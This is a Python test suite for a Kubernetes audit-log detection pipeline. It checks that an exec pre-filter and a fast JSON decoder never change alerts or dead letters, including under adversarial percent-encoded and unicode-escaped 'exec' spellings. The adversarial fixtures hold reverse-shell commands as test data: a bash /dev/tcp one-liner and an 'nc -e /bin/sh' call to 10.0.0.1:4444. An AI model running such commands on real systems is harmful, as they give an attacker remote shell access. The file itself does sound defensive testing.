"""The fast path (orjson, in-place ECS reads, the exec pre-filter) changes no outcome.

Every message goes through a pipeline with the pre-filter and one without; alerts (id, rule,
fields, explanation) and dead letters (reason) must be identical. The JSON decoder itself is
compared with ``json.loads`` on the inputs where orjson and the stdlib differ.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from detections.alert import SourceRef
from detections.audit_event import decode_message
from detections.engine import Detector
from detections.errors import MalformedEvent
from detections.rule_loader import load_rule_file, load_rules
from stream.alert_window import RecentAlerts
from stream.pipeline import DetectionPipeline
from stream.prefilter import ExecPrefilter, build_prefilter
from stream.synthetic import as_ecs, as_event_list, as_wrapped, exec_audit_events
from stream.traffic import go_json, records

SOURCE = SourceRef("file", file="fast-path", line=1)
Outcome = tuple[str, Any]


@pytest.fixture(scope="module")
def detector() -> Detector:
    return Detector(load_rules([], builtin=True).rules)


def _outcome(pipeline: DetectionPipeline, data: bytes) -> Outcome:
    try:
        result = pipeline.process_message(data, SOURCE)
    except MalformedEvent as err:
        return ("dead_letter", err.reason)
    alerts = tuple(alert.to_json() for alert in result.alerts)  # id, rule, fields, explanation
    return ("ok", (result.events, result.exec_requests, alerts, result.repeats))


def _assert_same(detector: Detector, messages: Iterator[bytes]) -> int:
    fast = DetectionPipeline(detector, RecentAlerts(100_000), clock=_clock, prefilter=True)
    full = DetectionPipeline(detector, RecentAlerts(100_000), clock=_clock, prefilter=False)
    assert fast.prefilter is not None
    skipped = 0
    for data in messages:
        assert _outcome(fast, data) == _outcome(full, data), data
        skipped += not fast.prefilter.may_hold_exec(data)
    return skipped


def _clock() -> Any:
    from datetime import UTC, datetime  # noqa: PLC0415

    return datetime(2025, 1, 15, tzinfo=UTC)


def _shaped(seed: int, count: int, exec_share: float) -> Iterator[bytes]:
    """Traffic records re-shaped into every input shape (event lists and arrays included)."""
    rng = random.Random(seed)
    shapes = ("event", "ecs", "wrapped")
    batch: list[bytes] = []
    for record in records(rng, count, exec_share=exec_share, shapes=shapes):
        yield record.value
        batch.append(record.value)
        if len(batch) == 3:
            items = [json.loads(b) for b in batch]
            raw = [i for i in items if "auditID" in i]
            yield json.dumps(items).encode()
            if raw:
                yield go_json(as_event_list(raw))
                yield json.dumps(as_wrapped(as_event_list(raw))).encode()
                yield json.dumps([as_ecs(raw[0], layout="flattened")]).encode()
                yield json.dumps(as_ecs(raw[-1], layout="mixed")).encode()
            batch = []


@pytest.mark.slow
@pytest.mark.parametrize(
    ("seed", "count", "exec_share"), [(1, 6000, 0.02), (2, 4000, 1.0), (3, 3000, 0.3)]
)
def test_generated_traffic_same_alerts_and_dead_letters(
    detector: Detector, seed: int, count: int, exec_share: float
) -> None:
    skipped = _assert_same(detector, _shaped(seed, count, exec_share))
    if exec_share < 1.0:
        assert skipped > 0  # the pre-filter does skip routine traffic


# --------------------------------------------------------------------------- adversarial


def _exec_event(query: str, *, path: str | None = None) -> dict[str, Any]:
    (event, *_) = exec_audit_events(
        command=("sh", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
        client="raw",
        namespace="default",
        pod="web-1",
        container="web",
        audit_id="0f0e0d0c-0b0a-4908-8706-050403020100",
        rng=random.Random(5),
        start=_clock(),
        stdin=True,
        tty=True,
        raw_query=query,
    )
    if path is not None:
        event["requestURI"] = path + "?" + query
    return event


_LETTERS = {c: f"\\u{ord(c):04x}" for c in "abcdefghijklmnopqrstuvwxyz"}


def _escape_some(text: str, picks: list[bool], upper: bool) -> str:
    out = []
    for char, pick in zip(text, picks + [False] * len(text), strict=False):
        escaped = _LETTERS.get(char)
        out.append(
            (escaped.upper().replace("\\U", "\\u") if upper else escaped)
            if pick and escaped
            else char
        )
    return "".join(out)


@st.composite
def adversarial(draw: st.DrawFn) -> bytes:
    query = "&".join(
        [f"command={quote(a, safe='')}" for a in ("sh", "-c", "nc 10.0.0.1 4444 -e /bin/sh")]
        + ["container=web", "stdin=1", "stdout=1"]
    )
    segment = draw(
        st.sampled_from(
            ["exec", "ex%65c", "%65%78%65%63", "e%78ec", "attach", "EXEC", "Exec", "exe%63"]
        )
    )
    path = f"/api/v1/namespaces/default/pods/web-1/{segment}"
    event = _exec_event(query, path=path)
    event["objectRef"]["subresource"] = draw(st.sampled_from(["exec", "attach", None, "EXEC"]))
    if event["objectRef"]["subresource"] is None:
        del event["objectRef"]["subresource"]
    text = go_json(event).decode()
    picks = draw(st.lists(st.booleans(), min_size=0, max_size=64))
    upper = draw(st.booleans())
    for needle in ('"exec"', "exec", "attach", "subresource", "requestURI", "%65", "%78"):
        if draw(st.booleans()):
            text = text.replace(needle, _escape_some(needle, picks, upper))
    if draw(st.booleans()):
        text = text.replace("%", "\\u0025")
    shape = draw(st.sampled_from(["event", "wrapped", "wrapped_list", "array", "ecs"]))
    if shape == "wrapped":
        text = json.dumps({"log": text})  # the escapes are doubled: \\u0065
    elif shape == "wrapped_list":
        text = json.dumps({"message": "[" + text + "]"})
    elif shape == "array":
        text = "[" + text + "]"
    elif shape == "ecs":
        text = json.dumps(as_ecs(json.loads(text)), ensure_ascii=draw(st.booleans()))
    return text.encode()


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=adversarial())
def test_adversarial_exec_spellings_never_skipped_when_they_alert(
    detector: Detector, data: bytes
) -> None:
    full = DetectionPipeline(detector, RecentAlerts(10), clock=_clock)
    fast = DetectionPipeline(detector, RecentAlerts(10), clock=_clock, prefilter=True)
    assert fast.prefilter is not None
    outcome = _outcome(full, data)
    assert _outcome(fast, data) == outcome
    if outcome[0] == "ok" and (outcome[1][2] or outcome[1][1]):
        assert fast.prefilter.may_hold_exec(data)


def test_escaped_exec_spellings_are_kept() -> None:
    check = ExecPrefilter.may_hold_exec
    assert check(b'{"requestURI":"/api/v1/namespaces/a/pods/b/ex\\u0065c"}')
    assert check(b'{"log":"{\\"requestURI\\":\\"/pods/b/\\\\u0065xec\\"}"}')
    assert check(b'{"requestURI":"/pods/b/ex%65c"}')
    assert check(b'{"requestURI":"/pods/b/ex\\u00256c"}')
    assert check(b'{"requestURI":"/nodes/n/proxy%2Frun/a/b/c"}')
    assert check(b'{"objectRef":{"\\u0073ubresource":"x"}}')
    assert check(b'{"a":"\\ud800"}')
    assert check(b"[" * 200)
    assert not check(b'{"requestURI":"/api/v1/pods?a=1\\u0026b=\\u003cc\\u003e%2F"}')


# --------------------------------------------------------------------------- rule gating


def _rule(tmp_path: Path, query: str) -> Path:
    path = tmp_path / "rule.toml"
    path.write_text(
        '[metadata]\ncreation_date = "2025/01/01"\n\n[rule]\n'
        'rule_id = "00000000-0000-4000-8000-000000000001"\nname = "t"\n'
        'description = "t"\nrisk_score = 21\nseverity = "low"\ntype = "esql"\n'
        'language = "esql"\nauthor = ["t"]\nlicense = "Elastic License v2"\n'
        f"query = '''\n{query}\n'''\n",
        encoding="utf-8",
    )
    return path


@pytest.mark.parametrize(
    ("query", "enabled"),
    [
        ('FROM logs-kubernetes.audit_logs-* | WHERE kubernetes.audit.verb == "delete"', False),
        (
            'FROM logs-kubernetes.audit_logs-* | WHERE kubernetes.audit.verb == "create" '
            'AND kubernetes.audit.objectRef.subresource == "exec"',
            False,
        ),
        (
            "FROM logs-kubernetes.audit_logs-* | EVAL x = 1 "
            '| WHERE kubernetes.audit.objectRef.subresource == "exec"',
            False,
        ),
        (
            "FROM logs-kubernetes.audit_logs-* | WHERE kubernetes.audit.objectRef.subresource == "
            '"proxy"',
            False,
        ),
        (
            'FROM logs-kubernetes.audit_logs-* | WHERE "exec" == '
            'kubernetes.audit.objectRef.subresource AND kubernetes.audit.verb == "create"',
            True,
        ),
    ],
)
def test_prefilter_only_when_every_rule_needs_exec(
    tmp_path: Path, query: str, enabled: bool
) -> None:
    rule = load_rule_file(_rule(tmp_path, query))
    rules = (*load_rules([], builtin=True).rules, rule)
    assert (build_prefilter(rules) is not None) is enabled
    pipeline = DetectionPipeline(Detector(rules), RecentAlerts(10), prefilter=True)
    assert (pipeline.prefilter is not None) is enabled


def test_shipped_rules_enable_the_prefilter(detector: Detector) -> None:
    assert build_prefilter(detector.rules) is not None


# --------------------------------------------------------------------------- JSON decoder


@pytest.mark.parametrize(
    "text",
    [
        '{"auditID":"a","stage":"s","verb":"v","requestURI":"/","n":18446744073709551616}',
        '{"auditID":"a","stage":"s","verb":"v","requestURI":"/","n":-9223372036854775809}',
        '{"auditID":"a","stage":"s","verb":"v","requestURI":"/\\ud800","n":1e400}',
        '{"auditID":"a","stage":"s","verb":"v","requestURI":"/","n":NaN}',
        '{"auditID":"a","stage":"s","verb":"v","requestURI":"/","n":Infinity}',
        '\ufeff{"auditID":"a","stage":"s","verb":"v","requestURI":"/"}',
        '{"log":"{\\"auditID\\":\\"a\\",\\"stage\\":\\"s\\",\\"verb\\":\\"v\\",'
        '\\"requestURI\\":\\"/\\",\\"n\\":123456789012345678901234}"}',
        "[" * 900 + "]" * 900,
        '{"a":' * 300 + "1" + "}" * 300,
    ],
)
def test_decoder_matches_stdlib(text: str) -> None:
    _assert_decodes_like_stdlib(text)


def _assert_decodes_like_stdlib(text: str) -> None:
    try:
        data = text.encode()
    except UnicodeEncodeError:  # a lone surrogate written unescaped: not UTF-8 on the wire
        return
    try:
        got: Any = [(e.audit, e.document, e.shape) for e in decode_message(data)]
    except MalformedEvent as err:
        got = err.reason
    try:
        obj = json.loads(text.removeprefix("\ufeff"), parse_constant=_refuse)
    except (ValueError, RecursionError):
        assert got == "not_json"
        return
    if isinstance(got, str):
        assert got != "not_json"
        return
    assert [a for a, _, _ in got] == _audits(obj)


def _refuse(name: str) -> Any:
    raise ValueError(name)


def _audits(obj: Any) -> list[Any]:
    if isinstance(obj, list):
        return [a for item in obj for a in _audits(item)]
    if "log" in obj:
        return _audits(json.loads(obj["log"]))
    return [obj]


@settings(max_examples=200, deadline=None)
@given(
    value=st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
        lambda children: (
            st.lists(children, max_size=4)
            | st.dictionaries(st.text(max_size=8), children, max_size=4)
        ),
        max_leaves=20,
    )
)
def test_decoder_values_match_stdlib(value: Any) -> None:
    event = {"auditID": "a", "stage": "s", "verb": "v", "requestURI": "/", "x": value}
    _assert_decodes_like_stdlib(json.dumps(event))
    _assert_decodes_like_stdlib(json.dumps(event, ensure_ascii=False))
